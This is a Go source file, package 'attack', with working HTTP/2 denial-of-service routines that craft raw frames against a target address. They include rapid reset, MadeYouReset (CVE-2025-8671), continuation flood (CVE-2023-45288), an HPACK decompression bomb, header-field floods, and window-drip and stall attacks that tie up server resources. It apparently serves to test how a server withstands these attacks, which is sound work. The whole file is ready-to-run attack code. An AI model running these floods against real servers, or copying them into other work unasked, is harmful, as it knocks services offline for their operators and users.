package attack

import (
	"context"
	"encoding/binary"
	"fmt"
	"io"
	"net"
	"slices"
	"strings"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

const (
	frameHeaders      = byte(http2.FrameHeaders)
	framePriority     = byte(http2.FramePriority)
	frameReset        = byte(http2.FrameRSTStream)
	frameSettings     = byte(http2.FrameSettings)
	framePing         = byte(http2.FramePing)
	frameWindowUpdate = byte(http2.FrameWindowUpdate)
	frameData         = byte(http2.FrameData)
	frameContinuation = byte(http2.FrameContinuation)

	endStreamAndHeaders = 0x5
)

// frame returns an HTTP/2 frame (RFC 9113, section 4.1).
func frame(kind, flags byte, stream uint32, payload []byte) []byte {
	n := len(payload)
	head := []byte{byte(n >> 16), byte(n >> 8), byte(n), kind, flags, 0, 0, 0, 0}
	binary.BigEndian.PutUint32(head[5:], stream)
	return append(head, payload...)
}

// peer is one HTTP/2 connection, whose requests are written as they are.
type peer struct {
	net.Conn
	enc    *hpack.Encoder
	block  []byte // what enc writes
	stream uint32 // the next one
}

func (p *peer) write(b []byte) error {
	_, err := p.Write(b)
	return err
}

// blockWriter is where the encoder writes.
type blockWriter struct{ p *peer }

func (w blockWriter) Write(b []byte) (int, error) {
	w.p.block = append(w.p.block, b...)
	return len(b), nil
}

// open returns a connection that has sent its settings; settings are pairs of identifier and value.
func open(ctx context.Context, address string, settings ...uint32) (*peer, error) {
	c, err := dialTLS(ctx, address, "h2")
	if err != nil {
		return nil, err
	}
	p := &peer{Conn: c, stream: 1}
	p.enc = hpack.NewEncoder(blockWriter{p})
	var payload []byte
	for i := 0; i+1 < len(settings); i += 2 {
		payload = binary.BigEndian.AppendUint16(payload, uint16(settings[i]))
		payload = binary.BigEndian.AppendUint32(payload, settings[i+1])
	}
	if err := p.write(append([]byte(http2.ClientPreface), frame(frameSettings, 0, 0, payload)...)); err != nil {
		_ = c.Close()
		return nil, err
	}
	return p, nil
}

// request returns the frame of a request with more fields.
func (p *peer) request(more ...hpack.HeaderField) []byte { return p.requestFor(path, more...) }

func (p *peer) requestFor(path string, more ...hpack.HeaderField) []byte {
	p.block = p.block[:0]
	for _, f := range append([]hpack.HeaderField{
		{Name: ":method", Value: "GET"}, {Name: ":scheme", Value: "https"}, {Name: ":authority", Value: host}, {Name: ":path", Value: path},
	}, more...) {
		if err := p.enc.WriteField(f); err != nil {
			panic(fmt.Sprint("an encoder in memory failed: ", err))
		}
	}
	text := frame(frameHeaders, endStreamAndHeaders, p.stream, p.block)
	p.stream += 2
	return text
}

// requests returns n of them in a row.
func (p *peer) requests(n int, more ...hpack.HeaderField) []byte {
	var all []byte
	for range n {
		all = append(all, p.request(more...)...)
	}
	return all
}

// flood writes what next returns until the connection fails. It reads and forgets the answers, or does not.
func flood(ctx context.Context, address string, reads bool, next func(p *peer) []byte) error {
	p, err := open(ctx, address)
	if err != nil {
		return err
	}
	defer p.Close()
	if reads {
		go untilClosed(p) //nolint:errcheck // it ends with the connection
	}
	for p.stream < 1<<30 {
		if err := p.write(next(p)); err != nil {
			return err
		}
	}
	return nil
}

func http2Load(ctx context.Context, address string) error {
	return flood(ctx, address, true, func(p *peer) []byte { return p.requests(100) })
}

func http2Unread(ctx context.Context, address string) error {
	return flood(ctx, address, false, func(p *peer) []byte { return p.requests(100) })
}

// http2CookieCrumbs sends some 400 fields of one byte each per request, which the server has to keep apart.
func http2CookieCrumbs(ctx context.Context, address string) error {
	var crumbs []hpack.HeaderField
	for range 400 {
		crumbs = append(crumbs, hpack.HeaderField{Name: "cookie", Value: "a"})
	}
	return flood(ctx, address, true, func(p *peer) []byte { return p.requests(20, crumbs...) })
}

// http2HPACKBomb refers to one long field again and again: 2 KiB on the wire stand for megabytes.
func http2HPACKBomb(ctx context.Context, address string) error {
	long := hpack.HeaderField{Name: "x", Value: strings.Repeat("a", 3900)}
	var bomb []hpack.HeaderField
	for range 2000 {
		bomb = append(bomb, long)
	}
	return flood(ctx, address, true, func(p *peer) []byte { return p.requests(10, bomb...) })
}

func http2RapidReset(ctx context.Context, address string) error {
	return flood(ctx, address, true, func(p *peer) []byte {
		var all []byte
		for range 100 {
			all = append(all, p.request()...)
			all = append(all, frame(frameReset, 0, p.stream-2, []byte{0, 0, 0, 8})...)
		}
		return all
	})
}

// http2MadeYouReset breaks a rule on each stream, so that the server resets it after it has begun to work on it
// (CVE-2025-8671).
func http2MadeYouReset(ctx context.Context, address string) error {
	return flood(ctx, address, true, func(p *peer) []byte {
		var all []byte
		for range 100 {
			all = append(all, p.request()...)
			all = append(all, frame(frameWindowUpdate, 0, p.stream-2, []byte{0, 0, 0, 0})...)
		}
		return all
	})
}

// http2DataFlood begins a request with a body, and sends empty parts of it over and over.
func http2DataFlood(ctx context.Context, address string) error {
	begun := false
	return flood(ctx, address, true, func(p *peer) []byte {
		var all []byte
		if !begun {
			begun, all = true, p.request()
			all[4] &^= 1 // its end is left open
		}
		for len(all) < 16<<10 {
			all = append(all, frame(frameData, 0, 1, nil)...)
		}
		return all
	})
}

// http2ContinuationFlood sends a header that never ends (CVE-2023-45288).
func http2ContinuationFlood(ctx context.Context, address string) error {
	begun := false
	return flood(ctx, address, true, func(p *peer) []byte {
		var all []byte
		if !begun {
			begun, all = true, p.request()
			all[4] &^= endStreamAndHeaders
		}
		field := []byte("\x00\x01x\x7f\x21" + strings.Repeat("a", 160)) // a name of one byte and 160 bytes of value, not to be indexed
		for len(all) < 16<<10 {
			all = append(all, frame(frameContinuation, 0, 1, field)...)
		}
		return all
	})
}

// http2Flood sends one frame over and over.
func http2Flood(f []byte) func(ctx context.Context, address string) error {
	var batch []byte
	for len(batch) < 16<<10 {
		batch = append(batch, f...)
	}
	return func(ctx context.Context, address string) error {
		return flood(ctx, address, true, func(*peer) []byte { return batch })
	}
}

func http2Idle(ctx context.Context, address string) error {
	p, err := open(ctx, address)
	if err != nil {
		return err
	}
	defer p.Close()
	if err := p.write(p.request()); err != nil {
		return err
	}
	return untilClosed(p)
}

// openUnread opens a connection that lets no answer begin, for want of a window, and forgets what comes over it all the
// same. The channel is closed when the server has ended it.
func openUnread(ctx context.Context, address string) (*peer, <-chan struct{}, error) {
	p, err := open(ctx, address, uint32(http2.SettingInitialWindowSize), 0)
	if err != nil {
		return nil, nil, err
	}
	ended := make(chan struct{})
	go func() {
		defer close(ended)
		_, _ = io.Copy(io.Discard, p)
	}()
	return p, ended, nil
}

// http2WindowDrip asks for as much as it may and takes a byte of each answer at a time.
func http2WindowDrip(ctx context.Context, address string) error {
	p, ended, err := openUnread(ctx, address)
	if err != nil {
		return err
	}
	defer p.Close()
	for p.stream < 1<<30 {
		if err := p.write(p.requests(100)); err != nil {
			return err
		}
		for range 4 {
			select {
			case <-ended:
				return io.EOF
			case <-time.After(500 * time.Millisecond):
			}
			var drips []byte
			for s := p.stream - 200; s < p.stream; s += 2 {
				drips = append(drips, frame(frameWindowUpdate, 0, s, []byte{0, 0, 0, 1})...)
			}
			if err := p.write(drips); err != nil {
				return err
			}
		}
	}
	return nil
}

// http2OwnAnswers has requests, after what first returns, that net/http answers by itself, and takes none of the answers: a field that HTTP/2 does not allow, or a
// header that is too large, from a table that the first request has filled.
func http2OwnAnswers(field hpack.HeaderField, times int, first func(p *peer) []byte) func(ctx context.Context, address string) error {
	return func(ctx context.Context, address string) error {
		p, ended, err := openUnread(ctx, address)
		if err != nil {
			return err
		}
		defer p.Close()
		fields := slices.Repeat([]hpack.HeaderField{field}, times)
		for p.stream < 1<<30 {
			if err := p.write(append(first(p), p.requests(32, fields...)...)); err != nil {
				return err
			}
			select {
			case <-ended:
				return io.EOF
			case <-time.After(ownAnswersEvery):
			}
		}
		return nil
	}
}

// nothing comes before the requests.
func nothing(*peer) []byte { return nil }

// aReset is a request and its end: the connection is idle for a moment when the server has read them, though the requests
// that follow in the same packet have come too.
func aReset(p *peer) []byte {
	return append(p.request(), frame(frameReset, 0, p.stream-2, []byte{0, 0, 0, 8})...)
}

// aRequest is a proper one. What its answer may take hides the answers that follow.
func aRequest(p *peer) []byte { return p.request() }

// ownAnswersEvery is how often http2OwnAnswers asks: some time before the server gives up the answers before.
const ownAnswersEvery = 5200 * time.Millisecond

// stallEvery is how often http2Stall asks: before the server gives up the answer before.
const stallEvery = 4500 * time.Millisecond

// http2Drip has one request at a time and takes each answer, all of it, after a time for which any honest client may let one wait.
func http2Drip(ctx context.Context, address string) error {
	p, err := open(ctx, address, uint32(http2.SettingInitialWindowSize), 0)
	if err != nil {
		return err
	}
	defer p.Close()
	frames := http2.NewFramer(io.Discard, p)
	if err := p.write(p.request()); err != nil {
		return err
	}
	for {
		f, err := frames.ReadFrame()
		if err != nil {
			return err
		}
		switch f := f.(type) {
		case *http2.HeadersFrame:
			select {
			case <-ctx.Done():
				return ctx.Err()
			case <-time.After(1500 * time.Millisecond):
			}
			err = p.write(frame(frameWindowUpdate, 0, f.StreamID, []byte{0, 0, 0x7f, 0xff}))
		case *http2.DataFrame:
			if f.StreamEnded() {
				err = p.write(p.request())
			}
		}
		if err != nil {
			return err
		}
	}
}

// http2LongPaths asks for documents whose names fill a header, and takes none of the answers.
func http2LongPaths(ctx context.Context, address string) error {
	p, ended, err := openUnread(ctx, address)
	if err != nil {
		return err
	}
	defer p.Close()
	for range 2 { // as many as are never refused
		if err := p.write(p.requestFor("/" + strings.Repeat("a", 15<<10))); err != nil {
			return err
		}
	}
	select {
	case <-ended:
	case <-ctx.Done():
	}
	return io.EOF
}

// http2HangUp leaves while its request is open, so that the server has to notice what it need not keep.
func http2HangUp(ctx context.Context, address string) error {
	p, _, err := openUnread(ctx, address)
	if err != nil {
		return err
	}
	defer p.Close()
	if err := p.write(p.request()); err != nil {
		return err
	}
	select {
	case <-time.After(50 * time.Millisecond): // in which the request is begun
	case <-ctx.Done():
	}
	return nil
}

// http2Stall never permits a byte of an answer, and always has one outstanding.
func http2Stall(ctx context.Context, address string) error {
	p, ended, err := openUnread(ctx, address)
	if err != nil {
		return err
	}
	defer p.Close()
	for {
		if err := p.write(p.request()); err != nil {
			return err
		}
		select {
		case <-ended:
			return io.EOF
		case <-time.After(stallEvery):
		}
	}
}
